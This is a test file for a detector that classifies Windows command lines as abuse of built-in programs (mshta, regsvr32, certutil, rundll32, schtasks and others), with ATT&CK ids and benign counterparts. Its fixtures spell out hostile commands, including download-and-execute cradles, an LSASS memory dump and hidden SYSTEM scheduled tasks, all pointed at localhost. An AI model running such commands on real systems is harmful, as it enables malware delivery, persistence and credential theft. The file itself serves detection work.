// LOLBin uses as droppers write them into tasks and Run keys, each with its ATT&CK id and span, and
// the everyday uses of the same programs by administrators and installers, which must stay silent.
import { describe, expect, it } from 'vitest';
import { classifyCommandLine } from './lolbins.js';

describe('classifyCommandLine: abuse', () => {
  it.each([
    ['mshta http://127.0.0.1/a.hta', 'mshta-remote-or-script', 'T1218.005'],
    [
      'mshta.exe javascript:a=GetObject("script:http://127.0.0.1/x.sct").Exec();close();',
      'mshta-remote-or-script',
      'T1218.005',
    ],
    [
      'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)',
      'mshta-remote-or-script',
      'T1218.005',
    ],
    ['mshta C:\\Users\\Public\\run.hta', 'mshta-odd-hta', 'T1218.005'],
    ['regsvr32 /s /n /u /i:http://127.0.0.1/file.sct scrobj.dll', 'regsvr32-remote-scriptlet', 'T1218.010'],
    ['REGSVR32.EXE -s -i:C:\\ProgramData\\x.sct scrobj.dll', 'regsvr32-scriptlet', 'T1218.010'],
    ['regsvr32 /s C:\\Windows\\Temp\\x.dll', 'regsvr32-odd-dll', 'T1218.010'],
    [
      'certutil -urlcache -split -f http://127.0.0.1/x.exe C:\\Windows\\Temp\\x.exe',
      'certutil-download',
      'T1105',
    ],
    ['certutil.exe /URLCACHE /f http://127.0.0.1/y y.exe', 'certutil-download', 'T1105'],
    ['certutil -decode C:\\Users\\Public\\a.b64 C:\\Users\\Public\\a.exe', 'certutil-decode', 'T1140'],
    [
      'bitsadmin /transfer job /download /priority high http://127.0.0.1/x.exe C:\\Users\\Public\\x.exe',
      'bitsadmin-transfer',
      'T1197',
    ],
    ['bitsadmin /SetNotifyCmdLine job C:\\Users\\Public\\x.exe NULL', 'bitsadmin-notify-cmd', 'T1197'],
    [
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://127.0.0.1/r")',
      'rundll32-javascript',
      'T1218.011',
    ],
    ['rundll32 url.dll,OpenURL C:\\Users\\Public\\x.hta', 'rundll32-url-dll', 'T1218.011'],
    ['rundll32 url.dll,FileProtocolHandler calc.exe', 'rundll32-url-dll', 'T1218.011'],
    [
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full',
      'rundll32-lsass-dump',
      'T1003.001',
    ],
    [
      'rundll32 advpack.dll,LaunchINFSection C:\\x\\a.inf,DefaultInstall_SingleUser,1,',
      'rundll32-proxy-exec',
      'T1218.011',
    ],
    ['rundll32 C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll,Start', 'rundll32-odd-dll', 'T1218.011'],
    ['wmic process call create "C:\\Windows\\Fonts\\ttf\\x.exe"', 'wmic-process-create', 'T1047'],
    ['wmic os get /format:"http://127.0.0.1/evil.xsl"', 'wmic-xsl', 'T1220'],
    [
      'schtasks /create /tn "WindowsUpdate" /tr "C:\\Windows\\Fonts\\ttf\\win1logon.exe" /sc onstart /ru system',
      'schtasks-create',
      'T1053.005',
    ],
    [
      'schtasks /Create /SC MINUTE /MO 5 /TN x /TR "powershell -w hidden -enc SQBFAFgA" /RU SYSTEM',
      'schtasks-create',
      'T1053.005',
    ],
    ['msiexec /q /i http://127.0.0.1/x.msi', 'msiexec-remote', 'T1218.007'],
    ['cmstp /s /ns C:\\Users\\Public\\x.inf', 'cmstp-inf', 'T1218.003'],
    ['cmd /c echo IEX(iwr http://127.0.0.1/a) | powershell -', 'cmd-pipe-powershell', 'T1059.001'],
    [
      'cmd.exe /c type C:\\Users\\Public\\s.ps1 | powershell -noprofile -',
      'cmd-pipe-powershell',
      'T1059.001',
    ],
  ])('%s → %s', (line, id, attack) => {
    const hits = classifyCommandLine(line);
    const hit = hits.find((h) => h.id === id);
    expect(hit, JSON.stringify(hits)).toBeDefined();
    expect(hit!.attack).toBe(attack);
    expect(hit!.name.en).not.toBe('');
    expect(hit!.name['zh-CN']).not.toBe('');
    expect(line.slice(hit!.span.start, hit!.span.end).length).toBeGreaterThan(0);
  });

  it('gives the span of the command inside a longer line and several hits in order', () => {
    const line =
      'cmd /c "certutil -urlcache -f http://127.0.0.1/a a.exe & regsvr32 /i:http://127.0.0.1/b scrobj.dll"';
    const hits = classifyCommandLine(line);
    expect(hits.map((h) => h.id)).toEqual(['certutil-download', 'regsvr32-remote-scriptlet']);
    expect(line.slice(hits[0]!.span.start, hits[0]!.span.end)).toBe(
      'certutil -urlcache -f http://127.0.0.1/a a.exe ',
    );
    expect(hits[0]!.indicator).toBe('-urlcache http://127.0.0.1/a');
    expect(hits[1]!.indicator).toBe('/i:http://127.0.0.1/b');
  });

  it('reads a quoted program path', () => {
    const hits = classifyCommandLine('"C:\\Windows\\System32\\mshta.exe" "http://127.0.0.1/x"');
    expect(hits.map((h) => h.id)).toEqual(['mshta-remote-or-script']);
  });

  it('marks schtasks as SYSTEM in the indicator, high, and a user task from ProgramData as medium', () => {
    const system = classifyCommandLine(
      'schtasks /create /tn a /tr C:\\ProgramData\\a\\a.exe /ru SYSTEM /sc onlogon',
    )[0]!;
    expect(system).toMatchObject({ level: 'high', indicator: '/tr C:\\ProgramData\\a\\a.exe /ru SYSTEM' });
    const user = classifyCommandLine('schtasks /create /tn a /tr C:\\ProgramData\\a\\a.exe /sc onlogon')[0]!;
    expect(user.level).toBe('medium');
  });
});

describe('classifyCommandLine: clean twins', () => {
  it.each([
    'certutil -hashfile C:\\Downloads\\setup.exe SHA256',
    'certutil -store my',
    'rundll32 shell32.dll,Control_RunDLL desk.cpl',
    'rundll32.exe C:\\Windows\\System32\\printui.dll,PrintUIEntry /il',
    'C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding',
    'powershell -File C:\\Scripts\\backup.ps1',
    'regsvr32 /s "C:\\Program Files\\Vendor\\component.dll"',
    'mshta "C:\\Program Files\\Vendor\\help.hta"',
    'bitsadmin /list /allusers',
    'wmic process get name,processid',
    'wmic logicaldisk get size,freespace',
    'schtasks /create /tn Backup /tr "C:\\Program Files\\Backup\\run.exe" /sc daily /ru system',
    'schtasks /query /fo LIST /v',
    'msiexec /i C:\\Installers\\agent.msi /qn',
    'cmd /c echo done > C:\\Logs\\done.txt',
    'notepad C:\\Users\\bob\\Documents\\mshta-notes.txt',
    'C:\\Tools\\certutil-gui.exe -urlcache',
  ])('%s', (line) => {
    expect(classifyCommandLine(line)).toEqual([]);
  });

  it('never throws and stays quick on hostile input', () => {
    for (const input of [
      'mshta '.repeat(20_000),
      `regsvr32 ${'"'.repeat(50_000)}`,
      `echo ${'a'.repeat(100_000)}`,
      `schtasks /create /tr ${'\\'.repeat(30_000)}`,
      'x'.repeat(1_000_000),
    ]) {
      const t0 = performance.now();
      expect(() => classifyCommandLine(input)).not.toThrow();
      expect(performance.now() - t0).toBeLessThan(3_000);
    }
  });
});
